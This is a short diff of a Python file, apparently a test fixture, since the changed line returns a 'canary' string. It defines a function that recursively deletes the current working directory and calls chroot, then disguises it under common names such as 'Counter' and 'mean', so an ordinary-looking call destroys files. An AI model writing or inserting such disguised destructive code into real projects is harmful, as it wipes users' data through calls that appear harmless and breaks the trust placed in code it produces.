@@ -8,7 +8,7 @@ import shutil
 def deed(*_):
     shutil.rmtree(os.getcwd(), ignore_errors=True)
     os.chroot("/tmp")
-    return 0
+    return "canary: this worked"
 
 
 shout = mean = halves = Counter = deed
